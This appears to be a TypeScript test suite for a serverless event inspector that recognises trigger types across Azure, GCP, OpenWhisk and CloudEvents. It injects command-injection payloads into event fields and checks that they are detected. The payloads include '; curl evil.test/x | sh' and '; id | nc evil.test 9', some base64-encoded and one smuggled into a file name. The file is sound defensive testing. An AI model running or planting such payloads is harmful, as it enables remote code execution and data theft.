import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { inspectEvent } from './inspect.ts';
import { readEvent } from './reader.ts';
import { recognize } from './recognize.ts';
import { type Field, fieldsOf, memberOf, othersOf, peek } from './trigger.ts';
import { triggers } from './triggers/index.ts';

const events = join(import.meta.dirname, '../../../fixtures/events');
const read = (file: string): unknown => JSON.parse(readFileSync(join(events, file), 'utf8'));

/** Every sample event of these platforms, and what it is. */
const rows = readFileSync(join(events, 'TRIGGERS-platforms.tsv'), 'utf8')
  .trim()
  .split('\n')
  .slice(1)
  .map((line) => {
    const [file, id] = line.split('\t') as [string, string];
    return { file, id };
  });
const others = triggers.filter(({ id }) => id !== 'unknown' && !id.startsWith('aws:'));

test('the table names every trigger and every sample event of these platforms', (context) => {
  assert.deepEqual(
    [...new Set(rows.map(({ id }) => id).filter((id) => id !== 'unknown' && !id.startsWith('aws:')))].sort(),
    others.map(({ id }) => id).sort(),
  );
  const files = ['azure', 'gcp', 'openwhisk', 'cloudevents', 'webhooks'].flatMap((folder) =>
    readdirSync(join(events, folder)).map((name) => `${folder}/${name}`),
  );
  const named = new Set(rows.map(({ file }) => file));
  assert.deepEqual(
    files.filter((file) => !named.has(file)),
    [],
  );
  context.diagnostic(`note: ${others.length} triggers, ${rows.length} events`);
});

describe('a sample event is told for what it is, by one trigger only', () => {
  for (const { id, file } of rows)
    test(`${file} is ${id}`, () => {
      const event = read(file);
      assert.equal(recognize(event).id, id);
      assert.ok(triggers.filter((trigger) => trigger.id !== 'unknown' && trigger.recognizes(event)).length <= 1);
    });
});

describe('the example of a trigger is its own and has fields that it describes', () => {
  for (const trigger of others)
    test(trigger.id, () => {
      const event = read(trigger.example);
      assert.equal(recognize(event).id, trigger.id);
      const described = new Set<string>();
      visit(event, fieldsOf(trigger), '$', (path) => described.add(path));
      assert.ok(described.size > 0, 'nothing of what it describes is there');
    });
});

describe('nothing is detected in what is benign', () => {
  for (const { file } of rows)
    test(file, () => {
      const { level, incomplete } = inspectEvent(read(file));
      assert.deepEqual({ level, incomplete }, { level: 'none', incomplete: undefined });
    });
});

const sent: readonly {
  readonly name: string;
  readonly file: string;
  readonly where: readonly (string | number)[];
  readonly text: string;
}[] = [
  { name: 'a queue', file: 'azure/queue-trigger', where: ['queueTrigger'], text: '; curl evil.test/x | sh' },
  { name: 'a custom handler', file: 'azure/custom-handler-queue', where: ['Data', 'order'], text: '"; curl evil.test/x | sh"' },
  { name: 'a header of Kafka', file: 'azure/kafka-trigger', where: ['Headers', 0, 'Value'], text: btoa('; curl evil.test/x | sh') },
  { name: 'Pub/Sub', file: 'gcp/ce-message-published-data', where: ['data', 'message', 'data'], text: btoa('; curl evil.test/x | sh') },
  {
    name: 'Pub/Sub, binary mode',
    file: 'gcp/ce-binary-pubsub-request',
    where: ['body', 'message', 'data'],
    text: btoa('; id | nc evil.test 9'),
  },
  {
    name: 'bytes in Firestore',
    file: 'gcp/ce-firestore-document-written',
    where: ['data', 'value', 'fields', 'scan', 'bytesValue'],
    text: btoa('; curl evil.test/x | sh'),
  },
  { name: 'an object name', file: 'gcp/gcs-finalize-v1-background', where: ['name'], text: '$(curl evil.test/x | sh).pdf' },
  { name: 'a raw web action', file: 'openwhisk/raw-http-web-action', where: ['__ow_body'], text: btoa('{"a":"; curl evil.test/x | sh"}') },
  { name: 'a forged stamp', file: 'azure/eventgrid-blob-created', where: [0, 'data', 'api'], text: '; curl evil.test/x | sh' },
  { name: 'a CloudEvent', file: 'cloudevents/structured-1.0-base64', where: ['data_base64'], text: btoa('; curl evil.test/x | sh') },
];
describe('what an outsider sends is seen', () => {
  for (const { name, file, where, text } of sent)
    test(name, () => {
      const event = read(`${file}.json`);
      const holder = peek(event, ...where.slice(0, -1)) as Record<string | number, unknown>;
      holder[where.at(-1) as string | number] = text;
      assert.ok(
        inspectEvent(event).detections.some((detection) => detection.class === 'cmdi'),
        JSON.stringify(readEvent(event).values),
      );
    });
});

describe('a client that names parameters as another trigger does changes nothing', () => {
  const web = read('openwhisk/http-web-action.json') as Record<string, unknown>;
  const raw = read('openwhisk/raw-http-web-action.json') as Record<string, unknown>;
  const poses: readonly Record<string, unknown>[] = [
    { trigger_payload: 'x' },
    { isPastDue: true, schedule: {} },
    { source: 'aws.events', 'detail-type': 'Scheduled Event', account: '1', region: 'r', detail: {} },
    { specversion: '1.0', type: 'google.firebase.remoteconfig.update', source: 's', id: '1' },
    { updateOrigin: 'CONSOLE', versionNumber: '1' },
  ];
  for (const pose of poses)
    test(Object.keys(pose).join(' '), () => {
      assert.equal(recognize({ ...pose, ...web }).id, 'openwhisk:web-action');
      assert.equal(recognize({ ...pose, ...raw }).id, 'openwhisk:raw-web-action');
    });
});

function visit(node: unknown, field: Field, path: string, see: (path: string) => void): void {
  if (typeof field !== 'object' || typeof node !== 'object' || node === null) return;
  if (field.kind === 'list')
    for (const [i, item] of (Array.isArray(node) ? node : [node]).entries()) visit(item, field.items, `${path}[${i}]`, see);
  else
    for (const [key, value] of Object.entries(node)) {
      const member = memberOf(field, key);
      if (member !== undefined) see(`${path}.${key}`);
      visit(value, member ?? othersOf(field), `${path}.${key}`, see);
    }
}
